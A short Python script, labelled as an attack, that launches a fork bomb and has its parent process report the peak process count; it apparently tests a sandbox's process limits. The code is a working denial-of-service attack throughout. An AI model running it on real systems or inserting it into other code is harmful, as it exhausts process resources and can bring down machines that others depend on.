# Attack: a fork bomb in Python. The first child bombs (every process forks forever, catching
# the errors); the parent watches how many processes of the box exist, prints the peak once, and
# waits to be killed.
import os
import sys
import time

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass

peak = 0
end = time.monotonic() + 0.3
while time.monotonic() < end:
    try:
        n = sum(1 for d in os.listdir("/proc") if d.isdigit())
    except OSError:
        continue
    peak = max(peak, n)
print("peak processes", peak, flush=True)
while True:
    time.sleep(1)
